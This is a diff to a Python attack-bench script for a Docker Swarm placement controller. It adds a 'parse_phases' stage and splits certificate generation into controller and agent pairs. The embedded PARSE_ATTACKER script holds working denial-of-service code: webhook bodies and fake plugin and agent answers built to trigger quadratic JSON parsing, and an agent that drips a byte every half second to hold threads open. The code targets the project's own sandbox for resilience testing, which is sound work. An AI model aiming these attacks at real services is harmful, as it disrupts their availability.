@@ -16,7 +16,13 @@ the other, from containers attached to the stack's attachable overlay network:
 2. webhook: a holder of the webhook token rotates `failed` across the nodes, as fast
    as the webhook takes it;
 3. plugin: the plugin answers every call with JSON nested 100 000 deep;
-4. rebinding: the web view asked under another host name, with and without a login.
+4. rebinding: the web view asked under another host name, with and without a login;
+5. parsing and outbound calls (`parse_phases`): an unterminated string of escaped
+   quotes, which cost the old JSON pre-check k squared steps holding the GIL, through
+   the webhook (16 KiB bodies, with its token), from the plugin and from an agent
+   (1 MiB answers; the agent is listed by the bench's override and answers with the
+   agents' own certificate, as a node that is taken could); then that agent dripping
+   its answer a byte every half second, which kept a thread and a socket per poll.
 
 For each: how many reconcile cycles the leading controller ran during the attack, how
 many tasks of each service were stopped (the goal: none), whether Swarm restarted a
@@ -198,19 +204,24 @@ def wait(predicate: Callable[[], object], timeout: float, what: str) -> Any:
 
 
 def make_certificate(where: Path) -> None:
-    """As docs/operations-deploy.md, "TLS", makes them."""
+    """As docs/operations-deploy.md, "TLS", makes them: a CA, the controllers' pair
+    (controller.crt, .key) and the agents' (agent.crt, .key)."""
     run = lambda *a: subprocess.run(a, cwd=where, check=True, capture_output=True)  # noqa: E731
     run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
         "-nodes", "-days", "30", "-subj", "/CN=swarm-placement-ca", "-keyout", "ca.key",
         "-out", "ca.crt")  # fmt: skip
-    run("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
-        "-subj", "/CN=swarm-placement", "-keyout", "tls.key", "-out", "tls.csr")  # fmt: skip
-    (where / "tls.ext").write_text(
-        "subjectAltName=DNS:controller,DNS:tasks.controller,DNS:localhost,IP:127.0.0.1\n"
-        "extendedKeyUsage=serverAuth,clientAuth\n"
-    )
-    run("openssl", "x509", "-req", "-in", "tls.csr", "-CA", "ca.crt", "-CAkey", "ca.key",
-        "-CAcreateserial", "-days", "30", "-extfile", "tls.ext", "-out", "tls.crt")  # fmt: skip
+    for name, extensions in (
+        ("controller", "subjectAltName=DNS:controller,DNS:tasks.controller,DNS:localhost,"
+                       "IP:127.0.0.1\nextendedKeyUsage=serverAuth\n"),
+        ("agent", "extendedKeyUsage=serverAuth\n"),
+    ):  # fmt: skip
+        run("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+            "-subj", f"/CN=swarm-placement-{name}", "-keyout", f"{name}.key", "-out",
+            f"{name}.csr")  # fmt: skip
+        (where / f"{name}.ext").write_text(extensions)
+        run("openssl", "x509", "-req", "-in", f"{name}.csr", "-CA", "ca.crt", "-CAkey",
+            "ca.key", "-CAcreateserial", "-days", "30", "-extfile", f"{name}.ext", "-out",
+            f"{name}.crt")  # fmt: skip
 
 
 def deploy(sb: Sandbox, image: str, work: Path) -> None:
@@ -218,8 +229,11 @@ def deploy(sb: Sandbox, image: str, work: Path) -> None:
     for name, value in TOKENS.items():
         client.secrets.create(name=f"placement-{name}-token", data=value.encode())
     client.secrets.create(name="placement-agent-secret", data=b"bench-agent-secret")
-    for name, file in (("cert", "tls.crt"), ("key", "tls.key"), ("ca", "ca.crt")):
-        client.secrets.create(name=f"placement-tls-{name}", data=(work / file).read_bytes())
+    for name, file in (
+        ("tls-cert", "controller.crt"), ("tls-key", "controller.key"), ("tls-ca", "ca.crt"),
+        ("agent-tls-cert", "agent.crt"), ("agent-tls-key", "agent.key"),
+    ):  # fmt: skip
+        client.secrets.create(name=f"placement-{name}", data=(work / file).read_bytes())
     client.close()
     stack = (ROOT / "compose.yaml").read_text()
     if not _kernel_has_esp():  # as tests/integration/test_deploy_swarm.py does
@@ -228,6 +242,7 @@ def deploy(sb: Sandbox, image: str, work: Path) -> None:
     (work / "compose.yaml").write_text(stack)
     (work / "plugin.yaml").write_text(PLUGIN_OVERRIDE)
     (work / "evil.spec").write_text(PLUGIN_SPEC + "\n")
+    (work / "parse.yaml").write_text(PARSE_OVERRIDE)
     shutil.copytree(ROOT / "policies", work / "policies")
     env = {
         **os.environ,
@@ -239,7 +254,7 @@ def deploy(sb: Sandbox, image: str, work: Path) -> None:
     cli = shutil.which("docker") or "docker"
     subprocess.run(
         [cli, "stack", "deploy", "--resolve-image", "never", "-c", "compose.yaml",
-         "-c", "plugin.yaml", STACK],
+         "-c", "plugin.yaml", "-c", "parse.yaml", STACK],
         cwd=work, env=env, check=True, capture_output=True, text=True, timeout=120,
     )  # fmt: skip
 
@@ -502,6 +517,157 @@ def _median(values: list[float]) -> str:
     return f"{statistics.median(values):.3f}" if values else "none"
 
 
+# --- parsing and outbound calls (parse_phases) ------------------------------------------
+
+PARSE_OVERRIDE = """\
+version: "3.8"
+services:
+  controller:
+    environment:
+      # An agent the attacker answers for (parse_phases), with the agents' certificate,
+      # as a node that is taken could: listed beside the discovered ones.
+      PLACEMENT_AGENTS: "node-4=https://evilagent:9811"
+"""
+# argv: MODE SECONDS ARGS...; the agent modes read the agents' pair from AGENT_CERT and
+# AGENT_KEY. Each prints one JSON line.
+PARSE_ATTACKER = r"""
+import http.client, json, os, socket, ssl, sys, threading, time
+mode, seconds = sys.argv[1], float(sys.argv[2])
+end = time.monotonic() + seconds
+loose = ssl.create_default_context(); loose.check_hostname = False
+loose.verify_mode = ssl.CERT_NONE
+def bait(size, head):
+    # An unterminated string of escaped quotes: the old pre-check's k squared steps.
+    return head + b'\\"' * ((size - len(head)) // 2)
+def ips(name):
+    try:
+        return sorted({a[4][0] for a in socket.getaddrinfo(name, None, socket.AF_INET)})
+    except OSError:
+        return []
+def agent_server(answer):
+    open("/tmp/agent.crt", "w").write(os.environ["AGENT_CERT"])
+    open("/tmp/agent.key", "w").write(os.environ["AGENT_KEY"])
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain("/tmp/agent.crt", "/tmp/agent.key")
+    listener = socket.create_server(("0.0.0.0", 9811))
+    stats, lock = {"connections": 0, "open": 0, "most_open": 0}, threading.Lock()
+    def serve(conn):
+        try:
+            s = ctx.wrap_socket(conn, server_side=True); s.settimeout(30)
+            s.recv(65536)
+            answer(s)
+        except OSError:
+            pass
+        finally:
+            with lock:
+                stats["open"] -= 1
+            conn.close()
+    def accept():
+        while True:
+            conn, _ = listener.accept()
+            with lock:
+                stats["connections"] += 1; stats["open"] += 1
+                stats["most_open"] = max(stats["most_open"], stats["open"])
+            threading.Thread(target=serve, args=(conn,), daemon=True).start()
+    threading.Thread(target=accept, daemon=True).start()
+    time.sleep(seconds)
+    print(json.dumps(stats))
+if mode == "bait-webhook":
+    token, body = sys.argv[3], bait(16 * 1024 - 64, b'{"node": "')
+    answers, took = {}, []
+    while time.monotonic() < end:
+        for ip in ips("tasks.controller"):
+            started = time.monotonic()
+            try:
+                c = http.client.HTTPSConnection(ip, 9465, timeout=30, context=loose)
+                c.request("POST", "/v1/health", body, {"Authorization": "Bearer " + token,
+                                                       "Content-Type": "application/json"})
+                code = str(c.getresponse().status)
+            except OSError:
+                code = "error"
+            took.append(time.monotonic() - started)
+            answers[code] = answers.get(code, 0) + 1
+    took.sort()
+    print(json.dumps({"answers": answers, "bytes": len(body),
+                      "median_s": round(took[len(took) // 2], 3) if took else None,
+                      "max_s": round(took[-1], 3) if took else None}))
+elif mode == "bait-plugin":
+    import http.server
+    body, calls = bait((1 << 20) - 64, b'{"Vetoes": "'), {"n": 0}
+    class H(http.server.BaseHTTPRequestHandler):
+        def log_message(self, *a): pass
+        def do_POST(self):
+            self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            calls["n"] += 1
+            out = b'{"Implements": ["PlacementDriver"]}' if "Activate" in self.path else body
+            self.send_response(200); self.send_header("Content-Length", str(len(out)))
+            self.end_headers(); self.wfile.write(out)
+    server = http.server.ThreadingHTTPServer(("0.0.0.0", 9900), H)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    time.sleep(seconds)
+    print(json.dumps({"plugin_calls": calls["n"], "bytes": len(body)}))
+elif mode == "bait-agent":
+    body = bait((1 << 20) - 64, b'{"node_id": "')
+    head = ("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
+            "Connection: close\r\n\r\n" % len(body)).encode()
+    agent_server(lambda s: s.sendall(head + body))
+elif mode == "drip-agent":
+    def drip(s):
+        s.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+                  b"Content-Length: 1000000\r\n\r\n[")
+        while time.monotonic() < end:
+            s.sendall(b" "); time.sleep(0.5)
+    agent_server(drip)
+"""
+
+
+def parse_attacker(
+    sb: Sandbox, image: str, args: list[str], *, alias: str | None = None,
+    environment: dict[str, str] | None = None,
+) -> Any:  # fmt: skip
+    """As `attacker`, with the parsing attacks' script, on node-4."""
+    client = sb.client("node-4")
+    container = client.containers.run(
+        image, entrypoint=["python3", "-c", PARSE_ATTACKER], command=args, network=NETWORK,
+        detach=True, name=f"attacker-{args[0]}-{int(time.time())}", environment=environment,
+    )  # fmt: skip
+    if alias is not None:
+        net = client.networks.get(NETWORK)
+        net.disconnect(container)
+        net.connect(container, aliases=[alias])
+    return client, container
+
+
+def parse_phases(sb: Sandbox, image: str, seconds: float, work: Path) -> None:
+    """The quadratic bait through the webhook, from the plugin and from an agent; then
+    a dripping agent (the module's docstring, 5)."""
+    agent = {
+        "AGENT_CERT": (work / "agent.crt").read_text(),
+        "AGENT_KEY": (work / "agent.key").read_text(),
+    }
+    run = str(seconds)
+    phase(
+        sb, image, "quadratic JSON bait through the webhook (16 KiB bodies)", seconds,
+        lambda: parse_attacker(sb, image, ["bait-webhook", run, TOKENS["health"]]),
+    )  # fmt: skip
+    phase(
+        sb, image, "quadratic JSON bait from the plugin (1 MiB answers)", seconds,
+        lambda: parse_attacker(sb, image, ["bait-plugin", run], alias="evilplugin"),
+    )  # fmt: skip
+    phase(
+        sb, image, "quadratic JSON bait from an agent (1 MiB answers)", seconds,
+        lambda: parse_attacker(
+            sb, image, ["bait-agent", run], alias="evilagent", environment=agent
+        ),
+    )  # fmt: skip
+    phase(
+        sb, image, "an agent dripping its answer a byte every 0.5 s", seconds,
+        lambda: parse_attacker(
+            sb, image, ["drip-agent", run], alias="evilagent", environment=agent
+        ),
+    )  # fmt: skip
+
+
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("--name", default="attack")
@@ -542,6 +708,7 @@ def main() -> int:
             sb, image, "DNS rebinding and no login", 10,
             lambda: attacker(sb, image, "node-4", ["rebinding", "10", TOKENS["ui"]]),
         )  # fmt: skip
+        parse_phases(sb, image, seconds, work)
     return 0
 
 
